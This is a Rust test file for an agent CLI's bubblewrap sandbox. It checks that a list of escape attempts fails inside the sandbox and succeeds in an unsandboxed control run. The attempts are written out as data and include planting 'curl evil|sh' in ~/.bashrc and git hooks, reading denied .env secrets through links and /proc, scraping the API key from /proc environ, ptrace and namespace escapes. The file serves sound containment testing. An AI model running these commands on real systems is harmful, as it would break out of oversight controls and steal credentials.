//! The OS sandbox through the real binary and real bubblewrap: escape attempts, each a
//! real command that a permission rule lets run, which must fail in the sandbox while
//! the same command without it succeeds (the control); and the session shell working
//! inside it. Each runs as ourselves and, when the tests run as root, as `nobody` too.
//! Skipped (with a message) where bubblewrap is not installed; `.ci/run` installs it.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::Path;

use crate::common;

use common::{Env, have_bwrap, serve, tool_result};
use rein_testkit::{Scenario, reply, text, tool_use_with_id};
use serde_json::json;

const SETTINGS: &str = r#"{"sandbox": {"filesystem": {"denyRead": ["./.env", "./secrets"]}}}"#;

/// The unprivileged user the suite also runs as (when the tests run as root).
const NOBODY: u32 = 65534;

fn running_as_root() -> bool {
    // SAFETY: getuid cannot fail.
    unsafe { libc::getuid() == 0 }
}

/// `program` run as `user` (none: as ourselves), with the system's PATH.
fn as_user(user: Option<u32>, program: &Path) -> std::process::Command {
    match user {
        None => std::process::Command::new(program),
        Some(uid) => {
            let mut c = std::process::Command::new("setpriv");
            c.args(["--reuid", &uid.to_string(), "--regid", &uid.to_string(), "--clear-groups", "--"]).arg(program);
            c.env("PATH", "/usr/local/bin:/usr/bin:/bin");
            c
        }
    }
}

fn give_to(user: Option<u32>, dir: &Path) {
    let Some(uid) = user else { return };
    let status = std::process::Command::new("chown").args(["-R", &format!("{uid}:{uid}")]).arg(dir).status().unwrap();
    assert!(status.success());
}

/// Run `command` through the Bash tool, allowed by `--allowedTools Bash`; `mode` is
/// `--sandbox`, `--no-sandbox`, or a tier letter (sandboxed in that tier); as `user`.
fn bash(env: &Env, command: &str, mode: &str, user: Option<u32>) -> (String, bool) {
    let server = serve(Scenario::new([
        reply([tool_use_with_id("b", "Bash", json!({"command": command}))]),
        reply([text("done")]),
    ]));
    let mut rein = as_user(user, &assert_cmd::cargo::cargo_bin("rein"));
    rein.current_dir(env.cwd())
        .env("HOME", env.home.path())
        .env("ANTHROPIC_BASE_URL", server.url())
        .env("ANTHROPIC_API_KEY", "sk-test")
        .env("REIN_RETRY_BASE_MS", "1")
        .env_remove("REIN_SANDBOX_TIER")
        .args(["-p", "go", "--allowedTools", "Bash", "--settings", SETTINGS]);
    if user.is_none() {
        rein.env("PATH", std::env::var_os("PATH").unwrap_or_default());
    }
    match mode {
        "--no-sandbox" => rein.arg("--no-sandbox"),
        "--sandbox" => rein.arg("--sandbox"),
        tier => rein.arg("--sandbox").env("REIN_SANDBOX_TIER", tier),
    };
    let out = rein.output().unwrap();
    assert!(out.status.success(), "rein failed: {}", String::from_utf8_lossy(&out.stderr));
    let reqs = server.requests();
    tool_result(reqs[1].body["messages"].as_array().unwrap(), "b")
}

fn project(user: Option<u32>) -> Env {
    let env = Env::new();
    env.write(".env", "API_TOKEN=hunter2\n");
    env.write("secrets/key.pem", "PRIVATE\n");
    env.write("src/main.py", "print('hi')\n");
    env.write(".claude/agents/a.md", "---\nname: a\ndescription: d\n---\nx\n");
    let git = std::process::Command::new("git").args(["init", "-q"]).current_dir(env.cwd()).status().unwrap();
    assert!(git.success());
    give_to(user, env.cwd());
    give_to(user, env.home.path());
    env
}

struct Attempt {
    name: &'static str,
    command: String,
    /// Tiers in which the attempt must fail ("A", "AB").
    fails_in: &'static str,
}

fn attempt(name: &'static str, command: impl Into<String>, fails_in: &'static str) -> Attempt {
    Attempt { name, command: command.into(), fails_in }
}

fn attempts(env: &Env, outside: &Path, port: u16, host_pid: u32) -> Vec<Attempt> {
    let o = outside.display();
    let key = env.cwd().join(".env");
    vec![
        attempt("python writes outside the roots", format!("python3 -c \"open('{o}/py','w').write('x')\""), "AB"),
        attempt("sh redirection outside the roots", format!("echo x > {o}/sh"), "AB"),
        attempt("cp outside the roots", format!("cp src/main.py {o}/cp"), "AB"),
        attempt("tee outside the roots", format!("echo x | tee {o}/tee"), "AB"),
        attempt("dd outside the roots", format!("dd if=/dev/zero of={o}/dd bs=1 count=1"), "AB"),
        attempt(
            "write through /proc/self/cwd/..",
            "touch /proc/self/cwd/../rein-escape-$$ && rm /proc/self/cwd/../rein-escape-$$",
            "AB",
        ),
        attempt("symlink out of the workspace", format!("ln -s {o} out && echo x > out/link"), "AB"),
        // The permission layer asks before writes to protected paths it can see; these
        // hide the path from it (a program writes it), so only the sandbox is left.
        attempt(
            "write ~/.bashrc",
            py("import os; open(os.path.expanduser('~/.bashrc'),'a').write('curl evil|sh')"),
            "AB",
        ),
        attempt("plant a git hook", py("open('.git/hooks/pre-commit','w').write('curl evil|sh')"), "A"),
        attempt("rewrite .git/config", py("open('.git/config','a').write('[core]\\nhooksPath=/tmp/evil')"), "A"),
        attempt(
            "rename .git and recreate it",
            py("import os; os.rename('.git','g'); os.makedirs('.git/hooks'); open('.git/hooks/post-checkout','w')"),
            "A",
        ),
        attempt("write .claude configuration", py("open('.claude/agents/evil.md','w').write('x')"), "A"),
        attempt("read a denied .env with cat", "cat .env", "A"),
        attempt("read a denied .env with python", "python3 -c \"print(open('.env').read())\"", "A"),
        attempt("read a denied .env with less", "less .env", "A"),
        attempt("read a denied .env through a symlink", "ln -s .env e && cat e", "A"),
        attempt("read a denied .env through a hard link", "ln .env hard && cat hard", "A"),
        attempt("read a denied .env through /proc/self/root", format!("cat /proc/self/root{}", key.display()), "A"),
        attempt("read a denied .env through /dev/fd", "exec 3< .env && cat /dev/fd/3", "A"),
        attempt("read a masked directory", "cat secrets/key.pem", "A"),
        attempt("list a masked directory", "ls secrets | grep -q key.pem", "A"),
        attempt(
            "connect to a host loopback port",
            format!("python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=2)\""),
            "AB",
        ),
        attempt("create a unix socket", "python3 -c \"import socket; socket.socket(socket.AF_UNIX)\"", "AB"),
        attempt(
            "ptrace another process",
            py("import ctypes,sys,subprocess; c=subprocess.Popen(['sleep','5']); l=ctypes.CDLL(None); \
                r=l.ptrace(16, c.pid, 0, 0); c.kill(); sys.exit(0 if r == 0 else 1)"),
            "AB",
        ),
        attempt("unshare a user namespace", "unshare -Ur true", "AB"),
        attempt("mount over a mask", "unshare -Urm sh -c 'mount -t tmpfs none /mnt'", "AB"),
        attempt("make a setuid file", "cp /bin/true ./suid && chmod u+s ./suid && test -u ./suid", "AB"),
        attempt("see host processes", format!("grep -qs rein-host-marker /proc/{host_pid}/cmdline"), "A"),
        attempt("kill a host process", format!("kill -0 {host_pid}"), "AB"),
        attempt(
            "signal rein itself",
            // rein is found among our ancestors (its /proc/PID/cwd is not readable: it is
            // not dumpable).
            py("import os,sys\nppid=lambda p: int(open('/proc/%d/stat' % p).read().rsplit(')',1)[1].split()[1])\n\
                a=[]\np=os.getpid()\nwhile p>1:\n p=ppid(p); a.append(p)\n\
                r=[x for x in a if open('/proc/%d/comm' % x).read().strip()=='rein' and b'__sandbox' not in \
                open('/proc/%d/cmdline' % x,'rb').read()]\n[os.kill(x, 0) for x in r]\nsys.exit(0 if r else 1)"),
            "AB",
        ),
        attempt("open another process's memory", py(&format!("open('/proc/{host_pid}/mem', 'rb')")), "AB"),
        attempt("read rein's API key from /proc", "grep -qs sk-test /proc/[0-9]*/environ", "AB"),
        attempt(
            "io_uring",
            "python3 -c \"import ctypes,sys; l=ctypes.CDLL(None); p=ctypes.create_string_buffer(120); sys.exit(0 if l.syscall(425, 4, p) >= 0 else 1)\"",
            "AB",
        ),
    ]
}

/// A Python one-liner as a command.
fn py(code: &str) -> String {
    format!("python3 -c \"{code}\"")
}

/// Whether the attempt did what it tried: for reads of the secret, that it came out;
/// otherwise that the command succeeded.
fn got_through(a: &Attempt, out: &str, err: bool) -> bool {
    if a.name.starts_with("read a") || a.name.starts_with("list a") {
        !err && (out.contains("hunter2") || out.contains("PRIVATE") || a.name.starts_with("list a"))
    } else {
        !err
    }
}

fn escape_suite(tier: &str, user: Option<u32>) {
    if !have_bwrap() || (user.is_some() && !running_as_root()) {
        return;
    }
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut host = as_user(user, Path::new("bash")).args(["-c", "exec -a rein-host-marker sleep 60"]).spawn().unwrap();
    let outside = tempfile::tempdir().unwrap();
    give_to(user, outside.path());
    let mut failures = Vec::new();
    let probe = project(user);
    let (me, _) = bash(&probe, "id -u", tier, user);
    let want = user.map_or_else(|| unsafe { libc::getuid() }.to_string(), |u| u.to_string());
    assert_eq!(me.trim(), want, "the commands run as the intended user");
    for a in attempts(&probe, outside.path(), port, host.id()) {
        let must_fail = a.fails_in.contains(tier);
        // Fresh projects: an attempt must not see what an earlier one changed.
        let (control_env, sandbox_env) = (project(user), project(user));
        let cmd_for =
            |env: &Env| a.command.replace(&probe.cwd().display().to_string(), &env.cwd().display().to_string());
        let (out, err) = bash(&control_env, &cmd_for(&control_env), "--no-sandbox", user);
        // rein's /proc files are closed to its own user even without the sandbox
        // (secrets_private.rs); only root's control still reads them.
        let blocked_by_rein = user.is_some() && a.name == "read rein's API key from /proc";
        if !blocked_by_rein && !got_through(&a, &out, err) {
            failures.push(format!("{}: the control failed: {out}", a.name));
            continue;
        }
        let (out, err) = bash(&sandbox_env, &cmd_for(&sandbox_env), tier, user);
        if must_fail && (got_through(&a, &out, err) || out.contains("hunter2")) {
            failures.push(format!("{}: escaped the tier {tier} sandbox: {out}", a.name));
        }
        let suid = sandbox_env.cwd().join("suid");
        if suid.exists()
            && std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&suid).unwrap().permissions()) & 0o4000 != 0
        {
            failures.push(format!("{}: a setuid file was left on the host", a.name));
        }
    }
    let _ = host.kill();
    let _ = host.wait();
    drop(listener);
    assert!(failures.is_empty(), "{} of the attempts went wrong:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn escape_attempts_fail_in_tier_a() {
    escape_suite("A", None);
}

#[test]
fn escape_attempts_fail_in_tier_b() {
    escape_suite("B", None);
}

#[test]
fn escape_attempts_fail_in_tier_a_as_an_unprivileged_user() {
    escape_suite("A", Some(NOBODY));
}

#[test]
fn escape_attempts_fail_in_tier_b_as_an_unprivileged_user() {
    escape_suite("B", Some(NOBODY));
}

#[test]
fn the_helper_that_stays_inside_cannot_be_reached() {
    if !have_bwrap() {
        return;
    }
    let env = project(None);
    // PID 1 inside is rein's relay: not dumpable, so its memory and environment are closed
    // to the command, and signals from inside the namespace do not reach it.
    let probe = "python3 -c \"import os\nfor f in ('mem', 'environ'):\n  try: open('/proc/1/'+f,'rb').read(1); print('OPENED', f)\n  except OSError as e: print('refused', f)\nos.kill(1, 9)\nprint('alive')\"";
    let (out, _) = bash(&env, probe, "A", None);
    assert!(out.contains("refused mem") && out.contains("refused environ") && !out.contains("OPENED"), "{out}");
    assert!(out.contains("alive"), "SIGKILL from inside does not reach PID 1: {out}");
    let (after, err) = bash(&env, "echo still here", "A", None);
    assert!(!err && after.contains("still here"), "{after}");
}
